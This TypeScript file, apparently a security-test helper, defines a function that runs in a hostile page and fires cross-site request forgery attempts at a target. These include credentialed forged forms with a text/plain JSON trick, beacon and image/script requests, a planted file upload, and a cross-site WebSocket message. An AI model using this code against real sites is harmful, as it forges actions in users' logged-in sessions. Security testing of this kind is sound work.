type Attack = { target: string; calls: { path: string; input: Record<string, string | number | string[]> }[] };
type Tried = { sent: number; read: string[]; socket: 'opened' | 'refused' };

/**
 * Runs inside a hostile page: everything a page can send to another origin without being asked, and the look at what it got.
 * It is handed to the browser as text, so that it names nothing outside itself.
 */
export async function attack({ target, calls }: Attack): Promise<Tried> {
  const tried: Tried = { sent: 0, read: [], socket: 'refused' };
  const wait = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
  const within = <T>(work: Promise<T>) => Promise.race([work.catch(() => undefined), wait(2_000)]);
  function submit(
    frame: HTMLIFrameElement,
    { url, type, input }: { url: string; type: string; input: Attack['calls'][number]['input'] },
  ): Promise<unknown> {
    const form = document.createElement('form');
    Object.assign(form, { method: 'POST', action: url, enctype: type, target: frame.name });
    // A field whose name and value together are the JSON, with the `=` between them inside a text.
    const json = JSON.stringify({ ...input, x: '' });
    const fields = type === 'text/plain' ? [[json.slice(0, -2), '"}']] : Object.entries(input);
    for (const [name, value] of fields) {
      const field = document.createElement('textarea');
      Object.assign(field, { name, value });
      form.append(field);
    }
    document.body.append(form);
    const loaded = new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
    form.submit();
    tried.sent++;
    return within(loaded);
  }

  async function tryCall(frame: HTMLIFrameElement, { path, input }: Attack['calls'][number]): Promise<void> {
    const url = target + path;
    const json = JSON.stringify(input);
    for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
      await submit(frame, { url, type, input });
      tried.sent++;
      await within(
        fetch(url, {
          method: 'POST',
          mode: 'no-cors',
          credentials: 'include',
          body: json,
          headers: { 'content-type': type },
        }),
      );
    }
    tried.sent += 6;
    navigator.sendBeacon(url, new Blob([json], { type: 'text/plain' }));
    const readable = await within(
      fetch(url, { method: 'POST', credentials: 'include', body: json }).then((answer) => answer.text()),
    );
    if (typeof readable === 'string' && target !== location.origin) tried.read.push(`${path} ${readable}`);
    await within(
      fetch(url, {
        method: 'POST',
        credentials: 'include',
        body: json,
        headers: { 'content-type': 'application/json' },
      }),
    );
    const query = `${url}?${new URLSearchParams(Object.entries(input).map(([name, value]) => [name, String(value)]))}`;
    const file = new FormData();
    file.append('file', new Blob(['planted']), 'planted.txt');
    await within(fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', body: file }));
    for (const tag of ['img', 'script'] as const) {
      const element = document.createElement(tag);
      const done = new Promise((resolve) => {
        element.addEventListener('load', resolve);
        element.addEventListener('error', resolve);
      });
      element.src = query;
      document.body.append(element);
      await within(done);
    }
    const loaded = new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
    frame.src = query;
    await within(loaded);
  }

  // Some at a time: nearly all of it is waiting.
  const waiting = calls.values();
  await Promise.all(
    ['one', 'two', 'three', 'four'].map(async (name) => {
      const frame = document.createElement('iframe');
      frame.name = name;
      document.body.append(frame);
      for (const call of waiting) await tryCall(frame, call);
    }),
  );
  await within(
    new Promise<void>((resolve) => {
      const socket = new WebSocket(`${target.replace('http', 'ws')}/ws/G01`);
      socket.addEventListener('open', () => {
        tried.socket = 'opened';
        socket.send(JSON.stringify({ sender: 'amy', message: 'planted' }));
        setTimeout(resolve, 500);
      });
      socket.addEventListener('error', () => resolve());
    }),
  );
  await wait(300);
  return tried;
}
